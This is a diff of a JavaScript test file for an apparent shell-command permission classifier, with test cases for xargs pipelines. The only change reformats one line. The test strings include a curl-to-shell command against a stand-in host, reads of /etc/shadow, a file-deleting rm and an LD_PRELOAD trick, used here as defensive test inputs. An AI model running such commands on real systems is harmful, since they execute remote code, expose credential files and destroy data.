@@ -96,8 +96,7 @@ describe("xargs", () => {
     "echo \"'/etc/shadow'\" | xargs cat": "ask; read ?",
     "ls | xargs -I% sh -c 'rm %'": "ask; read .; word.dynamic rm ?; code input; delete _",
     "ls | xargs -I$X cat": "ask; read .; word.dynamic -I?; read ?",
-    "curl https://x.example | xargs sh -c":
-      "deny; network x.example; word.dynamic ?; code fetched",
+    "curl https://x.example | xargs sh -c": "deny; network x.example; word.dynamic ?; code fetched",
     "ls | xargs bash -c 'ls \"$@\"' _": "ask; read .; read ?",
     "xargs -a /etc/shadow echo": "ask; read /etc/shadow",
     "ls | xargs --process-slot-var=LD_PRELOAD ls": "ask; read .; option.unknown --process-slot-var; read ?",
